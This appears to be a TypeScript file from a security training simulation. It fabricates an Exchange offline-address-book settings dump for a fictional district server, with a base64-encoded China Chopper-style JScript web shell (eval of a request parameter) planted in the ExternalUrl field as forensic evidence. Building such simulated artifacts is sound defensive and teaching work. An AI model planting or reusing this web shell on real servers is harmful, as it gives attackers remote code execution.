import { at, iso } from "./clock.ts";
import type { Server } from "./district.ts";

/** The server-side script of the demo's back door; base64, so that no runnable script stands in the repository. */
const SCRIPT_BASE64 =
  "PHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7ZXZhbChSZXF1ZXN0WyJsYXJjaDdRZCJdLCJ1bnNhZmUiKTt9PC9zY3JpcHQ+";

/** Text that the intruder puts behind the address in `ExternalUrl`. It is only ever written into log and evidence text. */
function plantedScript(): string {
  return Buffer.from(SCRIPT_BASE64, "base64").toString("utf8");
}

/** `ExternalUrl` as the intruder sets it. */
export function plantedUrl(): string {
  return `http://f/${plantedScript()}`;
}

/** What a reset of the offline address book directory dumps into a file: settings, with the script in `ExternalUrl`. */
export function shellDump(server: Server, timeMs: number): string {
  const local = usStamp(timeMs - 5 * 3_600_000);
  const utc = usStamp(timeMs);
  const created = usStamp(at("2021-01-16T19:02:11Z"));
  const name = `CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=${server.name},CN=Servers`;
  const groups =
    "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Larchmere Unified";
  const rows: readonly (readonly [string, string])[] = [
    ["Name", "OAB (Default Web Site)"],
    ["PollInterval", "480"],
    ["OfflineAddressBooks", "\\Default Offline Address Book"],
    ["RequireSSL", "True"],
    ["BasicAuthentication", "False"],
    ["WindowsAuthentication", "True"],
    ["OAuthAuthentication", "True"],
    ["MetabasePath", `IIS://${server.fqdn}/W3SVC/1/ROOT/OAB`],
    ["Path", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB"],
    ["ExtendedProtectionTokenChecking", "None"],
    ["ExtendedProtectionFlags", ""],
    ["ExtendedProtectionSPNList", ""],
    ["AdminDisplayVersion", "Version 15.1 (Build 2176.2)"],
    ["Server", server.name],
    ["InternalUrl", `https://${server.fqdn}/OAB`],
    ["InternalAuthenticationMethods", "WindowsIntegrated, OAuth"],
    ["ExternalUrl", plantedUrl()],
    ["ExternalAuthenticationMethods", "WindowsIntegrated, OAuth"],
    ["AdminDisplayName", ""],
    ["ExchangeVersion", "0.10 (14.0.100.0)"],
    [
      "DistinguishedName",
      `${name},${groups},CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=larchmere,DC=example`,
    ],
    ["Identity", `${server.name}\\OAB (Default Web Site)`],
    ["Guid", "7a0c5b0e-2f2d-4c5c-9a55-60ad3c1f27be"],
    ["ObjectCategory", "larchmere.example/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"],
    [
      "ObjectClass",
      "top\r\n                                  msExchVirtualDirectory\r\n                                  msExchOABVirtualDirectory",
    ],
    ["WhenChanged", local],
    ["WhenCreated", created],
    ["WhenChangedUTC", utc],
    ["WhenCreatedUTC", created],
    ["OrganizationId", ""],
    ["Id", `${server.name}\\OAB (Default Web Site)`],
    ["OriginatingServer", "LUSD-DC01.larchmere.example"],
    ["IsValid", "True"],
  ];
  return `${rows.map(([key, value]) => `${key.padEnd(32)}: ${value}`).join("\r\n")}\r\n`;
}

/** `3/3/2021 10:15:23 AM` */
function usStamp(timeMs: number): string {
  const text = iso(timeMs);
  const hour = Number(text.slice(11, 13));
  const half = hour < 12 ? "AM" : "PM";
  const clock = `${hour % 12 === 0 ? 12 : hour % 12}${text.slice(13, 19)}`;
  return `${Number(text.slice(5, 7))}/${Number(text.slice(8, 10))}/${text.slice(0, 4)} ${clock} ${half}`;
}
